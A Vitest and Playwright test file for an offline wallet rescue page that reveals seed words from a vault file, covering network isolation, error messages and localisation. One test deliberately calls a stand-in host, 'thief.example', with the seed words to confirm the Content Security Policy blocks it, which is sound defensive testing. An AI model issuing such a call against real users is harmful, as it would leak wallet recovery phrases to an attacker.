import { mkdtemp, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { CHROMIUM_ARGS, findPageChromium } from "@foyer-tooling/vitest/chromium.ts";
import { type Browser, chromium, type Page } from "playwright";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { deriveAccountKeys } from "../keys/account-keys.ts";
import { createKit } from "../keys/kit.ts";
import { fromWords } from "../keys/seed-words.ts";
import { createVaultFile } from "../wallet/testing/create-vault-file.ts";
import { buildRescuePage } from "./build-rescue-page.ts";

let browser: Browser;
let url: string;
let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "foyer-rescue-"));
  const page = join(folder, "rescue.html");
  await writeFile(page, await buildRescuePage());
  url = pathToFileURL(page).href;
  const executablePath = findPageChromium();
  browser = await chromium.launch({ args: [...CHROMIUM_ARGS], ...(executablePath && { executablePath }) });
});
afterAll(() => browser.close());

async function open(a: { readonly locale?: string } = {}) {
  const context = await browser.newContext({ locale: a.locale ?? "en-GB" });
  await context.setOffline(true);
  const page = await context.newPage();
  const asked: string[] = [];
  const complaints: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("console", (message) => complaints.push(message.text()));
  page.on("pageerror", (error) => complaints.push(error.message));
  await page.goto(url);
  return { page, asked, complaints };
}

async function show(page: Page, { file, code }: { readonly file: string; readonly code: string }): Promise<void> {
  await page
    .locator("#file")
    .setInputFiles({ name: "vault.json", mimeType: "application/json", buffer: Buffer.from(file) });
  await page.locator("#code").fill(code);
  await page.locator("form button").click();
}

describe("the rescue page, opened from a disk with the network off", () => {
  test("shows the words of the wallet, and asks for nothing", async () => {
    const { file, code, addresses } = await createVaultFile();
    const { page, asked, complaints } = await open();
    expect(await page.locator("#network").textContent()).toBe("This device is offline. That is right.");
    await show(page, { file, code: code.toLowerCase() });
    await page.locator("#words li").nth(23).waitFor();
    const words = await page.locator("#words li").allTextContents();
    expect((await deriveAccountKeys(fromWords(words))).addresses).toEqual(addresses);
    expect(await page.locator("#addresses").textContent()).toBe(`${addresses.eip155} · ${addresses.solana}`);
    expect(await page.locator("#code").inputValue()).toBe("");
    await page.getByRole("button", { name: "Hide the words" }).click();
    expect(await page.locator("#words li").count()).toBe(0);
    expect(asked).toEqual([url]);
    expect(complaints).toEqual([]);
  });

  test("may not ask for anything, whatever gets into it", async () => {
    const { page, complaints } = await open();
    const refused = await page.evaluate(() =>
      fetch("https://thief.example/?words").then(
        () => false,
        () => true,
      ),
    );
    expect(refused).toBe(true);
    await expect.poll(() => complaints.join()).toMatch(/Content Security Policy/);
  });

  test.each([
    ["another kit", "none", /not of this wallet's kit/],
    ["a letter wrong", "misspelt", /letter of the code is wrong/],
  ] as const)("says what is wrong with %s", async (_, kind, text) => {
    const { file, code } = await createVaultFile();
    const { page } = await open();
    const wrong = kind === "none" ? createKit().code : code.replace(/.$/, (last) => (last === "0" ? "1" : "0"));
    await show(page, { file, code: wrong });
    await expect.poll(() => page.locator("#failure").textContent()).toMatch(text);
    expect(await page.locator("#words li").count()).toBe(0);
  });

  test("says that a file is none", async () => {
    const { code } = await createVaultFile();
    const { page } = await open();
    await show(page, { file: "<html>", code });
    await expect.poll(() => page.locator("#failure").textContent()).toMatch(/no vault file/);
  });

  test("speaks Arabic, from right to left, and leaves words and addresses as they are", async () => {
    const { file, code } = await createVaultFile();
    const { page } = await open({ locale: "ar" });
    expect(await page.locator("html").getAttribute("dir")).toBe("rtl");
    expect(await page.locator("h1").textContent()).toMatch(/فتح محفظة/);
    await show(page, { file, code });
    await page.locator("#words li").nth(23).waitFor();
    const direction = (name: string) => page.locator(name).evaluate((found) => getComputedStyle(found).direction);
    expect(await direction("#words")).toBe("ltr");
  });

  test.each([
    ["zh-TW", "zh-Hant", "ltr", "用復原套件開啟錢包"],
    ["fa-IR", "fa", "rtl", "باز کردن کیف پول با برگهٔ بازیابی"],
    ["sw", "en", "ltr", "Open a wallet with its kit"],
  ])("speaks to a browser in %s as it can: %s, read %s", async (locale, tag, dir, title) => {
    const { page } = await open({ locale });
    expect(await page.locator("h1").textContent()).toBe(title);
    expect(await page.locator("html").evaluate(({ lang, dir }: HTMLElement) => [lang, dir])).toEqual([tag, dir]);
  });
});
